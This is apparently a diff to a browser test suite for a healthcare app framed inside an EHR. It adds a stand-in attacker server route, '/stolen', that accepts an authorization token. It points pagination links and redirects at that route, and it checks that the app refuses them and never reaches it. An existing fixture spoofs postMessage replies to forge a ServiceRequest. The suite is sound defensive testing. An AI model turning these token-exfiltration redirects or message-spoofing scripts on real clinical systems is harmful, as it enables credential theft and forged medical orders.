@@ -10,6 +10,7 @@ let browser: Browser;
 let context: BrowserContext;
 let page: Page;
 let problems: string[] = [];
+let reached = 0;
 let server: Awaited<ReturnType<typeof fakeServer>>;
 /** The pages as they are built; a page of a few lines over the package; the EHR that frames the app; somebody else. */
 let [app, bare, ehr, attacker]: [Site, Site, Site, Site] = [] as unknown as [Site, Site, Site, Site];
@@ -52,6 +53,12 @@ beforeAll(async () => {
         setTimeout(() => answer(window.create ?? { status: "201 Created", location: "ServiceRequest/123" }), 300);
       } else answer({ status: "success" });
     });`);
+  // A server that would gladly take the token, and go along.
+  attacker.routes.set("/stolen", (request, response) => {
+    reached += 1;
+    response.setHeader("Access-Control-Allow-Headers", "authorization");
+    response.end(request.method === "OPTIONS" ? "" : JSON.stringify({ resourceType: "Bundle" }));
+  });
   attacker.routes.set("/", pageWith("/attack.js"));
   attacker.routes.set("/attack.js", `addEventListener("message", ({ data }) => window.parent.frames[0].postMessage(
     { messageId: "x", responseToMessageId: data.messageId, payload: { status: "201 Created", location: "ServiceRequest/evil" } }, "*"));`);
@@ -214,14 +221,15 @@ describe("a launch is refused", () => {
     ["another patient", () => (server.how.data = [{ ...DATA[0], id: "p2" } as never]), "wrong-patient", "Patient"],
     ["another patient's reading", () => server.how.data.push(other()), "wrong-patient", "Observation"],
     ["a next page on another server", () => server.how.instead.set("Observation", body({
-      resourceType: "Bundle", link: [{ relation: "next", url: `${attacker.origin}/fhir/Observation` }] })), "server-refused", "Observation"],
+      resourceType: "Bundle", link: [{ relation: "next", url: `${attacker.origin}/stolen` }] })), "server-refused", "Observation"],
     ["pages without end", () => server.how.instead.set("Observation", body({
       resourceType: "Bundle", link: [{ relation: "next", url: `${server.fhir}/Observation?page=1` }] })), "too-large", "Observation"],
     ["an answer that leads elsewhere", () => server.how.instead.set("Observation", (_, response) =>
-      void response.writeHead(302, { Location: `${attacker.origin}/` }).end()), "server-refused", "Observation"],
+      void response.writeHead(302, { Location: `${attacker.origin}/stolen` }).end()), "server-refused", "Observation"],
   ])("for %s", async (_, arrange, code, path) => {
     arrange();
     expect(await result()).toEqual({ name: "LiangbingError", code, path });
+    expect(reached).toBe(0);
   });
 
   it("in words on the page, with nobody shown", async () => {
